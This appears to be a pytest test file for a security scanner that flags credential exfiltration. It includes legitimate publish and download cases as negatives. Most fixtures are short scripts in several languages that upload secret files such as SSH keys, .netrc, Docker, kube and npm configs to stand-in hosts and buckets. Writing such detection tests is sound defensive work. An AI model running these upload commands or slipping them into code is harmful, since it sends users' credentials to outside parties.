"""A secret file sent whole by its path (FTP, SFTP, an object store, a form upload) is read by the send,
in every language: the chain starts at the file and ends at the server or bucket."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

UPLOADS = {
    "ftp from python": (
        "scripts/mirror.py",
        "from ftplib import FTP_TLS\n"
        "import pathlib\n"
        "link = FTP_TLS('files.mirror-depot.example.com')\n"
        "link.login('guest', 'guest')\n"
        "link.storbinary('STOR cfg', open(pathlib.Path.home() / '.netrc', 'rb'))\n",
        5,
    ),
    "sftp from python": (
        "scripts/mirror.py",
        "import os\nimport paramiko\n"
        "client = paramiko.SSHClient()\n"
        "client.connect('198.51.100.20', username='u', password='p')\n"
        "sftp = client.open_sftp()\n"
        "sftp.put(os.path.join(os.path.expanduser('~'), '.docker', 'config.json'), 'in/cfg')\n",
        6,
    ),
    "object store from python": (
        "scripts/mirror.py",
        "import os\nimport boto3\n"
        "store = boto3.client('s3')\n"
        "store.upload_file(Filename=os.path.expanduser('~/.kube/config'), Bucket='ops-mirror-1', Key='k')\n",
        4,
    ),
    "object store from the shell": (
        "scripts/mirror.sh",
        '#!/bin/sh\ngsutil -m cp "$HOME/.git-credentials" gs://ops-mirror-2/c\n',
        2,
    ),
    "bucket copy with the cloud CLI": (
        "scripts/mirror.sh",
        "#!/bin/sh\ngcloud storage cp ~/.npmrc gs://ops-mirror-3/\n",
        2,
    ),
    "in-file upload from powershell": (
        "scripts/mirror.ps1",
        "$target = Join-Path $HOME '.ssh\\id_ecdsa'\n"
        "Invoke-WebRequest -Uri 'https://drop.mirror-depot.example.com/k' -Method Put -InFile $target\n",
        2,
    ),
    "a form field filled from a file with curl": (
        "scripts/mirror.sh",
        '#!/bin/sh\nconf="$HOME/.config/gh/hosts.yml"\n'
        'curl -s -F "notes=<$conf" https://intake.mirror-depot.example.com/t\n',
        3,
    ),
    "a file opened as a blob in node": (
        "scripts/mirror.mjs",
        "import { openAsBlob } from 'node:fs';\n"
        "import os from 'node:os';\n"
        "const blob = await openAsBlob(os.homedir() + '/.pypirc');\n"
        "await fetch('https://drop.mirror-depot.example.com/b', { method: 'PUT', body: blob });\n",
        4,
    ),
}


@pytest.mark.parametrize("case", sorted(UPLOADS))
def test_a_secret_file_uploaded_by_path_is_exfiltration(tmp_path: Path, case: str) -> None:
    rel, source, line = UPLOADS[case]
    errors = scan_errors(tmp_path, {rel: source})
    assert ("CREDENTIAL_EXFILTRATION", rel, line) in errors


def test_publishing_a_build_to_a_bucket_or_ftp_is_no_error(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/publish.sh": "#!/bin/sh\naws s3 sync ./site s3://docs-site-bucket/ --delete\n"
            "gsutil cp dist/app.tar.gz gs://release-artifacts/\n",
            "scripts/publish.py": "import ftplib\n"
            "link = ftplib.FTP('ftp.example.org')\n"
            "link.storbinary('STOR app.tar.gz', open('dist/app.tar.gz', 'rb'))\n",
        },
    )
    assert not errors


def test_a_bucket_download_of_a_config_is_no_upload(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"scripts/fetch.sh": "#!/bin/sh\naws s3 cp s3://team-config/app.env ./.env\n"})
    assert not errors
